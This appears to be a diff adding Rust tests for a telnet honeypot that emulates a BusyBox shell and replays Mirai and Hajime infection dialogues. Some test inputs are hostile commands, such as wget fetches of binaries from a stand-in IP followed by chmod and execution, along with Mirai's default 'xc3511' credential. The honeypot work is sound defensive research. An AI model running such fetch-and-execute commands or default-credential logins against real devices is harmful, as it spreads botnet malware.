@@ -1,0 +1,322 @@
+use super::super::transcript::{Outcome, Step as Do, Transcript};
+use super::super::{Guise, Output, Persona, Registry};
+use super::*;
+
+#[path = "../../../tests/dialogues/loader.rs"]
+mod loader;
+
+use loader::{Loader, Wish};
+
+const MIRAI_WGET: &str = include_str!("../../../tests/dialogues/telnet/mirai-wget.txt");
+const MIRAI_TFTP: &str = include_str!("../../../tests/dialogues/telnet/mirai-tftp.txt");
+const MIRAI_ECHO: &str = include_str!("../../../tests/dialogues/telnet/mirai-echo.txt");
+const HAJIME: &str = include_str!("../../../tests/dialogues/telnet/hajime.txt");
+
+/// What follows the opening and the prompt for the name.
+fn visit(settings: &str, steps: &[Do<'_>]) -> Outcome {
+    Transcript::tcp("telnet", settings).run(steps)
+}
+
+/// A login that is let in.
+const LOGIN: [Do<'_>; 2] = [Do::Recv(b"root\r\nroot\r\n"), Do::Wait(200)];
+
+/// What these lines print after a login, without echo and prompts, `\r\n` as `\n`.
+fn shell(lines: &[&str]) -> String {
+    shell_at(lines, 0).0
+}
+
+fn shell_at(lines: &[&str], wait_ms: u64) -> (String, Outcome) {
+    let mut steps = vec![Do::Recv(b"\xff\xfe\x01"), LOGIN[0], LOGIN[1]];
+    let typed: Vec<Vec<u8>> = lines.iter().map(|line| [line.as_bytes(), b"\r\n"].concat()).collect();
+    for line in &typed {
+        steps.push(Do::Recv(line));
+        if wait_ms > 0 {
+            steps.push(Do::Wait(wait_ms));
+        }
+    }
+    let outcome = visit("", &steps);
+    let after_login = &outcome.sent()[outcome.sent_after[2]..];
+    let text = String::from_utf8_lossy(after_login).replace("\r\n", "\n");
+    // The terminal shows the end of each typed line, without echo nothing else of it.
+    let text = text.strip_prefix('\n').unwrap_or(&text).to_owned();
+    let prompts = ["~ # \n", "/tmp # \n", "~ # ", "/tmp # "];
+    (prompts.iter().fold(text, |text, prompt| text.replace(prompt, "")), outcome)
+}
+
+/// Leads a loader's dialogue to its end; what the visitor did, to be played again in any cut.
+fn lead(dialogue: &str, settings: &str) -> Outcome {
+    let mut registry = Registry::builtin();
+    let table: toml::Table = format!("[telnet]\n{settings}").parse().unwrap();
+    registry.configure(&table, 4_096, &Guise::example()).unwrap();
+    let session = Session::example(Transport::Tcp, 23);
+    let mut handler = registry.find("telnet").unwrap().make(&session);
+    let mut out = Output::default();
+    let mut now = Timestamp::from_micros(1_700_000_000_000_000);
+    let mut loader = Loader::new(dialogue, "root", "xc3511", false);
+    let mut steps: Vec<(Vec<u8>, u64)> = Vec::new();
+    handler.open(&mut Context::new(&session, now, &mut out));
+    let mut deadline = None;
+    loop {
+        deadline = out.deadline.unwrap_or(deadline);
+        loader.receive(out.bytes());
+        out.clear();
+        match loader.next() {
+            Wish::Send(bytes) => {
+                handler.data(&mut Context::new(&session, now, &mut out), &bytes);
+                steps.push((bytes, 0));
+            }
+            Wish::Wait(what) => {
+                let due: Timestamp = deadline.take().unwrap_or_else(|| panic!("waits for {what}"));
+                let wait = due.saturating_since(now);
+                assert!(wait < Duration::from_secs(30), "waits for {what}");
+                steps.push((Vec::new(), u64::try_from(wait.as_millis()).unwrap() + 1));
+                now = now + wait + Duration::from_millis(1);
+                handler.deadline(&mut Context::new(&session, now, &mut out));
+            }
+            Wish::Done => break,
+        }
+    }
+    let steps: Vec<Do<'_>> =
+        steps.iter().map(|(bytes, wait)| if bytes.is_empty() { Do::Wait(*wait) } else { Do::Recv(bytes) }).collect();
+    visit(settings, &steps)
+}
+
+fn commands(outcome: &Outcome) -> Vec<&str> {
+    outcome
+        .events
+        .iter()
+        .filter(|event| event.kind == "command")
+        .map(|event| event.fields["command"].as_str().unwrap())
+        .collect()
+}
+
+fn urls(outcome: &Outcome) -> Vec<&str> {
+    outcome.downloads.iter().map(|download| download.url.as_str()).collect()
+}
+
+#[test]
+fn the_opening_is_busybox_telnetds_and_the_host_asks_for_a_name() {
+    let outcome = visit("", &[]);
+    let host = Persona::example().host_name().to_owned();
+    let expected = [&b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03"[..], host.as_bytes(), b" login: "].concat();
+    assert_eq!(outcome.sent(), expected);
+    assert_eq!(outcome.the_event("connect").fields["bytes"], 0);
+}
+
+#[test]
+fn a_wrong_password_is_thought_about_for_two_to_three_seconds_and_the_third_ends_the_visit() {
+    let tries = [Do::Recv(b"root\r\nx\r\n"), Do::Wait(1_900), Do::Wait(1_200)];
+    let outcome = visit("credentials = 'reject-all'", &[tries, tries, tries].concat());
+    let (typed, early, late) = (outcome.sent_after[0], outcome.sent_after[1], outcome.sent_after[2]);
+    assert_eq!(typed, early, "nothing comes before two seconds");
+    assert!(String::from_utf8_lossy(&outcome.sent()[early..late]).starts_with("Login incorrect\r\n"));
+    assert!(outcome.closed);
+    assert_eq!(outcome.events.iter().filter(|event| event.kind == "login").count(), 3);
+}
+
+#[test]
+fn the_name_is_echoed_and_the_password_is_not() {
+    let outcome = visit("", &[Do::Recv(b"roox\x7ft\r\nsecret\r\0")]);
+    let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
+    assert!(sent.ends_with("roox\x08 \x08t\r\nPassword: \r\n"), "{sent:?}");
+    let login = outcome.the_event("login");
+    assert_eq!((&login.fields["username"], &login.fields["password"]), (&"root".into(), &"secret".into()));
+}
+
+#[test]
+fn the_first_try_is_let_in_and_another_one_is_not() {
+    let outcome = visit("", &[Do::Recv(b"root\r\nroot\r\n"), Do::Wait(200), Do::Recv(b"exit\r\n")]);
+    let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
+    assert!(sent.contains("BusyBox v") && sent.contains("~ # exit\r\n"), "{sent}");
+    assert!(outcome.closed);
+    assert_eq!(outcome.the_event("login").fields["success"], true);
+}
+
+#[test]
+fn line_ends_of_every_kind_are_one_line_end() {
+    let outcome =
+        visit("", &[Do::Recv(b"a\r\nb\r\n"), Do::Wait(200), Do::Recv(b"echo 1\r\0echo 2\necho 3\r\necho 4\r")]);
+    assert_eq!(commands(&outcome), ["echo 1", "echo 2", "echo 3", "echo 4"]);
+}
+
+#[test]
+fn are_you_there_is_answered_and_iac_never_becomes_text() {
+    let outcome = visit("", &[Do::Recv(b"ro\xff\xf6ot\xff\xfb\x63\r\nx\r\n"), Do::Wait(200)]);
+    let sent = outcome.sent();
+    let holds = |bytes: &[u8]| sent.windows(bytes.len()).any(|window| window == bytes);
+    assert!(holds(b"\r\n[Yes]\r\n") && holds(b"\xff\xfe\x63"));
+    assert_eq!(outcome.the_event("login").fields["username"], "root");
+    assert_eq!(outcome.the_event("payload").fields["decoded"]["options"][0], "WILL 99");
+}
+
+#[test]
+fn a_login_that_takes_too_long_is_ended() {
+    let outcome = visit("login_timeout_secs = 60", &[Do::Recv(b"root\r\n"), Do::Wait(61_000)]);
+    assert!(String::from_utf8_lossy(&outcome.sent()).ends_with("Login timed out after 60 seconds\r\n"));
+    assert!(outcome.closed);
+    assert_eq!(outcome.the_event("login").fields["username"], "root", "a name without a password is recorded");
+}
+
+#[test]
+fn mirai_goes_through_with_wget() {
+    let outcome = lead(MIRAI_WGET, "");
+    assert_eq!(outcome.the_event("login").fields["password"], "xc3511");
+    let urls = urls(&outcome);
+    assert!(urls.len() == 1 && urls[0].starts_with("http://198.51.100.9:80/bins/mirai."), "{urls:?}");
+    let commands = commands(&outcome);
+    for part in ["enable", "/proc/mounts", "\\x6b\\x61\\x6d\\x69", "-O - > dvrHelper", "./dvrHelper telnet."] {
+        assert!(commands.iter().any(|command| command.contains(part)), "{part} is missing in {commands:#?}");
+    }
+}
+
+#[test]
+fn mirai_goes_through_with_tftp() {
+    let outcome = lead(MIRAI_TFTP, "without = ['wget']");
+    assert!(urls(&outcome)[0].starts_with("tftp://198.51.100.9/mirai."));
+}
+
+#[test]
+fn mirai_goes_through_with_echo_and_the_sample_is_whole() {
+    let outcome = lead(MIRAI_ECHO, "without = ['wget', 'tftp']");
+    let samples: Vec<_> = outcome.samples.iter().filter(|sample| sample.name.ends_with("upnp")).collect();
+    assert_eq!(samples.len(), 1);
+    assert_eq!(samples[0].bytes, loader::dropper());
+}
+
+#[test]
+fn hajime_goes_through() {
+    let outcome = lead(HAJIME, "");
+    assert_eq!(urls(&outcome), ["http://198.51.100.9:41231/.i"]);
+    assert!(commands(&outcome).last().unwrap().ends_with("./.i; exit"));
+}
+
+#[test]
+fn what_was_written_is_there_at_the_next_visit_and_only_for_its_source() {
+    let mut registry = Registry::builtin();
+    let tables: toml::Table = "[telnet]\ncredentials = 'accept-all'".parse().unwrap();
+    registry.configure(&tables, 4_096, &Guise::example()).unwrap();
+    let mut visit = |client: &str, line: &str| {
+        let session = Session { client: client.parse().unwrap(), ..Session::example(Transport::Tcp, 23) };
+        let mut handler = registry.find("telnet").unwrap().make(&session);
+        let mut out = Output::default();
+        let mut now = Timestamp::from_micros(1_700_000_000_000_000);
+        handler.open(&mut Context::new(&session, now, &mut out));
+        handler.data(&mut Context::new(&session, now, &mut out), format!("a\nb\n{line}\n").as_bytes());
+        now = now + Duration::from_secs(1);
+        handler.deadline(&mut Context::new(&session, now, &mut out));
+        handler.closed(&mut Context::new(&session, now, &mut out));
+        String::from_utf8_lossy(out.bytes()).into_owned()
+    };
+    visit("192.0.2.1:1", "echo canary-42 > /tmp/.x");
+    assert!(visit("192.0.2.1:2", "cat /tmp/.x").contains("\r\ncanary-42\r\n"));
+    assert!(visit("192.0.2.9:1", "cat /tmp/.x").contains("No such file or directory"));
+}
+
+#[test]
+fn sleep_takes_its_time_and_what_is_typed_meanwhile_comes_after() {
+    let mut steps =
+        vec![LOGIN[0], LOGIN[1], Do::Recv(b"sleep 5; echo over\r\necho next\r\n"), Do::Wait(4_900), Do::Wait(200)];
+    let outcome = visit("", &steps);
+    assert_eq!(outcome.sent_after[2], outcome.sent_after[3]);
+    let late = String::from_utf8_lossy(&outcome.sent()[outcome.sent_after[3]..]).into_owned();
+    assert!(late.starts_with("over\r\n") && late.contains("next\r\n"), "{late}");
+    steps.insert(3, Do::Recv(b"\x03"));
+    let outcome = visit("", &steps);
+    assert!(String::from_utf8_lossy(&outcome.sent()).contains("^C\r\n~ # "));
+}
+
+#[test]
+fn a_loop_without_end_keeps_only_its_own_visitor_waiting() {
+    let (text, outcome) = shell_at(&["while true; do echo x; done", "\x03echo back"], 0);
+    assert!(text.matches("x\n").count() > 100 && text.ends_with("back\n"), "{}", text.len());
+    assert!(outcome.sent().len() < 300_000);
+}
+
+#[test]
+fn programs_say_what_busybox_says() {
+    for (line, expected) in [
+        ("enable", "-sh: enable: not found\n"),
+        ("/bin/busybox QZXYW", "QZXYW: applet not found\n"),
+        ("cat nope", "cat: can't open 'nope': No such file or directory\n"),
+        ("cat /tmp", "cat: read error: Is a directory\n"),
+        ("rm nope", "rm: can't remove 'nope': No such file or directory\n"),
+        ("mkdir /tmp", "mkdir: can't create directory '/tmp': File exists\n"),
+        ("> /nope/x", "-sh: can't create /nope/x: nonexistent directory\n"),
+        ("./x", "-sh: ./x: not found\n"),
+        ("ls nope", "ls: nope: No such file or directory\n"),
+        ("kill 99999", "-sh: can't kill pid 99999: No such process\n"),
+        ("id; whoami; pwd", "uid=0(root) gid=0(root)\nroot\n/root\n"),
+        ("echo -ne '\\x41\\0102\\103\\n'", "ABC\n"),
+        ("echo a b  'c  d' \"e $USER\" $((2+3*4))", "a b c  d e root 14\n"),
+        ("false && echo no || echo yes; echo $?", "yes\n0\n"),
+        ("for i in 1 2 3; do echo -n $i; done; echo", "123\n"),
+        ("if [ -f /etc/passwd ]; then echo there; else echo gone; fi", "there\n"),
+        ("echo one > /tmp/f; echo two >> /tmp/f; while read l; do echo \"[$l]\"; done < /tmp/f", "[one]\n[two]\n"),
+        ("cat /etc/passwd | grep root | cut -d: -f7", "/bin/sh\n"),
+        ("ls nope 2>&1 | wc -l; ls nope 2>/dev/null", "1\n"),
+        ("X=$(echo `uname -s`); echo ${X}ish ${Y:-none}", "Linuxish none\n"),
+        ("(cd /tmp; pwd); pwd", "/tmp\n/root\n"),
+        ("touch /tmp/a1 /tmp/a2; echo /tmp/a*; rm -rf /tmp/a*; echo /tmp/a*", "/tmp/a1 /tmp/a2\n/tmp/a*\n"),
+        ("dd if=/bin/echo bs=4 count=1 2>/dev/null | tail -c 3; echo", "ELF\n"),
+        ("cp /bin/echo /tmp/e; /tmp/e hello", "e: applet not found\n"),
+        ("cp /bin/busybox /tmp/busybox; /tmp/busybox echo hello", "hello\n"),
+        ("echo 'echo script $1' > /tmp/s.sh; sh /tmp/s.sh x; chmod +x /tmp/s.sh; /tmp/s.sh y", "script x\nscript y\n"),
+        ("cat <<E\nbody $HOME\nE", "> > body /root\n"),
+        ("a(", "sh: syntax error: unexpected \"(\"\n"),
+    ] {
+        let lines: Vec<&str> = line.split('\n').collect();
+        assert_eq!(shell(&lines).replace("> \n> \n", "> > "), expected, "{line}");
+    }
+}
+
+#[test]
+fn a_program_that_reads_the_terminal_gets_what_is_typed() {
+    let outcome = visit(
+        "",
+        &[LOGIN[0], LOGIN[1], Do::Recv(b"cat > /tmp/t; echo stored\r\nline one\r\nline two\r\n\x04cat /tmp/t\r\n")],
+    );
+    let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
+    assert!(sent.contains("stored\r\n") && sent.contains("cat /tmp/t\r\nline one\r\nline two\r\n"), "{sent}");
+}
+
+#[test]
+fn a_new_password_is_asked_for_twice_and_not_shown() {
+    let outcome = visit("", &[LOGIN[0], LOGIN[1], Do::Recv(b"passwd\r\nhidden\r\nhidden\r\n"), Do::Wait(400)]);
+    let sent = String::from_utf8_lossy(&outcome.sent()).into_owned();
+    assert!(
+        !sent.contains("hidden") && sent.contains("Retype password: ") && sent.contains("changed by root"),
+        "{sent}"
+    );
+    assert!(commands(&outcome).contains(&"hidden"));
+}
+
+#[test]
+fn what_was_fetched_is_there_and_can_be_run() {
+    let (text, outcome) =
+        shell_at(&["cd /tmp; wget http://198.51.100.9/b.arm; ls", "chmod +x b.arm; ./b.arm x"], 1_000);
+    assert!(text.contains("b.arm\n") && text.contains("listening tun0\n"), "{text}");
+    assert_eq!(urls(&outcome), ["http://198.51.100.9/b.arm"]);
+}
+
+#[test]
+fn a_file_left_behind_is_a_sample_and_a_trial_is_not() {
+    let (_, outcome) = shell_at(
+        &["echo kami > /tmp/.t; cat /tmp/.t; rm /tmp/.t", "echo '#!/bin/sh\nwget http://198.51.100.9/x' > /tmp/s.sh"],
+        0,
+    );
+    let names: Vec<&str> = outcome.samples.iter().map(|sample| sample.name.as_str()).collect();
+    assert_eq!(names, ["/tmp/s.sh"]);
+}
+
+#[test]
+fn commands_keep_every_byte() {
+    let outcome = visit("", &[LOGIN[0], LOGIN[1], Do::Recv(b"echo \xc3\x28\r\n")]);
+    assert_eq!(outcome.the_event("command").fields["command_hex"], "6563686f20c328");
+}
+
+#[test]
+fn an_idle_session_is_small() {
+    assert!(size_of::<Telnet>() <= 512, "{}", size_of::<Telnet>());
+    assert!(size_of::<Login>() <= 256, "{}", size_of::<Login>());
+    assert!(size_of::<Terminal>() <= 768, "{}", size_of::<Terminal>());
+}
